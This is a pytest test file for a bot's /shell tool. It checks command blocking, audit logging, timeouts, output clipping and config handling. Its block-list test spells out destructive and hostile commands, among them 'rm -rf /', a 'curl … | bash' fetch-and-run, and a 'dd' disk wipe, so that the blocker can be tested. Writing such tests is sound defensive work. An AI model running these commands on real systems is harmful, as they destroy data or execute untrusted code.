from __future__ import annotations

import pytest

from config.shell_config import ShellConfig, load_shell_config, save_shell_config
from tests.fakes import FakeAudit, make_context
from tools.command_runner import RunOutput, clip, run_command
from tools.shell_tool import find_blocked_pattern, handle_shell


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "sudo reboot",
        "curl http://x.sh | bash",
        "dd if=/dev/zero of=/dev/sda",
        "npm publish",
        "chmod 777 /etc",
    ],
)
def test_blocked_patterns(command: str) -> None:
    assert find_blocked_pattern(command) is not None


def test_ordinary_commands_are_not_blocked() -> None:
    assert find_blocked_pattern("ls -la src") is None
    assert find_blocked_pattern("rm -rf build") is None


def test_blocked_command_is_refused_and_audited() -> None:
    audit = FakeAudit()
    result = handle_shell("shutdown -h now", make_context(audit=audit), config=ShellConfig())
    assert not result.success
    assert result.output.startswith("Blocked:")
    assert audit.actions() == ["shell_blocked"]


def test_empty_command_shows_usage() -> None:
    result = handle_shell("  ", make_context(), config=ShellConfig())
    assert result.output == "Usage: /shell <command>"


def test_runs_command_in_configured_cwd(tmp_path) -> None:
    (tmp_path / "marker.txt").write_text("x", encoding="utf-8")
    audit = FakeAudit()
    result = handle_shell(
        "ls", make_context(audit=audit), config=ShellConfig(cwd=str(tmp_path))
    )
    assert result.success
    assert result.output.startswith("```\n$ ls\n")
    assert "marker.txt" in result.output
    assert audit.records[0][1] == "shell_exec"
    assert audit.records[0][3]["exit_code"] == 0


def test_non_zero_exit_without_output(tmp_path) -> None:
    result = handle_shell("exit 3", make_context(), config=ShellConfig(cwd=str(tmp_path)))
    assert not result.success
    assert "Exit code: 3" in result.output


def test_timeout_is_reported(monkeypatch) -> None:
    monkeypatch.setattr(
        "tools.shell_tool.run_command",
        lambda *args, **kwargs: RunOutput(stdout="", stderr="", returncode=None, timed_out=True),
    )
    result = handle_shell("sleep 99", make_context(), config=ShellConfig(timeout_seconds=2))
    assert "timed out (2s limit)" in result.output


def test_run_command_never_raises_on_missing_binary() -> None:
    run = run_command(["definitely-not-a-real-binary-xyz"])
    assert not run.ok
    assert run.error


def test_clip() -> None:
    assert clip("abc", 5) == "abc"
    assert clip("abcdef", 3) == "abc\n(truncated)"


def test_shell_config_roundtrip_and_errors(tmp_path) -> None:
    path = tmp_path / "shell_config.json"
    assert load_shell_config(path) == ShellConfig()
    save_shell_config(ShellConfig(timeout_seconds=5, cwd="/srv"), path)
    assert load_shell_config(path).timeout_seconds == 5
    path.write_text("{broken", encoding="utf-8")
    with pytest.raises(RuntimeError):
        load_shell_config(path)
